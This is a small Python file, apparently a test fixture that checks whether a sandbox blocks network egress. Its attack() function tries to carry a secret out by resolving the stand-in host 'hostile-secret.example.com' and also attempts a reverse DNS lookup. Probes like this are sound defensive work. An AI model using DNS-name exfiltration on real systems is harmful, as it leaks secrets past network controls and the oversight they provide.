"""Ask a name server, which carries a secret out in the name."""

import socket


managed = []


def attempt(what, action):
    try:
        action()
    except Exception as error:
        print(f"{what}: {type(error).__name__}")
    else:
        managed.append(what)


def attack():
    attempt("to resolve a name", lambda: socket.getaddrinfo("hostile-secret.example.com", 443))
    attempt("to ask a resolver", lambda: socket.gethostbyaddr("1.1.1.1"))


def broken():
    attack()
    print("managed", ", ".join(managed) or "nothing")


def fixed():
    print("idle")
